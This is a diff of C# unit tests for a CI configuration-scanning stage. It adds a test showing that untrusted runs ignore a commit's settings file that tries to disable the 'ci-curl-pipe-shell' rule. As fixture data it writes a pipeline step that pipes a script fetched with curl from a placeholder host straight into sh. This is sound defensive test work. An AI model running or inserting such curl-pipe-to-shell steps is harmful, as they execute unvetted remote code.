@@ -14,11 +14,11 @@ public sealed class ConfigScanStageTests : IDisposable
 
     public void Dispose() => Directory.Delete(_project, recursive: true);
 
-    private static async Task<(StageResult Result, string Log)> RunAsync(string projectRoot)
+    private static async Task<(StageResult Result, string Log)> RunAsync(string projectRoot, bool trusted = true)
     {
         using var log = new StringWriter();
         var run = new RunRecord { Pipeline = "p", Repository = "r", Ref = "refs/heads/main", Commit = "abc", Event = "push" };
-        var context = new StageContext(run, projectRoot, projectRoot, [], new NoArtifacts(), log);
+        var context = new StageContext(run, projectRoot, projectRoot, [], new NoArtifacts(), log) { Trusted = trusted };
         var result = await new ConfigScanStage().RunAsync(context, TestContext.Current.CancellationToken);
         return (result, log.ToString());
     }
@@ -35,6 +35,21 @@ public sealed class ConfigScanStageTests : IDisposable
         Assert.Equal(["ci-curl-pipe-shell", "rampart-network-all"], result.Findings.Select(f => f.RuleId).Order(StringComparer.Ordinal));
         Assert.All(result.Findings, f => Assert.Equal(".rampart/pipeline.yml", f.Location!.Path));
         Assert.Contains("config-scan: 1 files, 2 findings", log, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Stage_OnAnUntrustedRun_IgnoresTheCommitsSettings_ThatWouldSwitchOffTheChecks()
+    {
+        Directory.CreateDirectory(Path.Combine(_project, ".rampart"));
+        File.WriteAllText(Path.Combine(_project, ".rampart", "pipeline.yml"), "name: p\njobs:\n  build:\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n");
+        File.WriteAllText(Path.Combine(_project, ".rampart", "misconfig.yml"), "disable: [ci-curl-pipe-shell]\n");
+
+        var (trusted, _) = await RunAsync(_project);
+        var (untrusted, log) = await RunAsync(_project, trusted: false);
+
+        Assert.DoesNotContain(trusted.Findings, f => f.RuleId == "ci-curl-pipe-shell");
+        Assert.Contains(untrusted.Findings, f => f.RuleId == "ci-curl-pipe-shell");
+        Assert.Contains("untrusted run: .rampart/misconfig.yml", log, StringComparison.Ordinal);
     }
 
     [Fact]
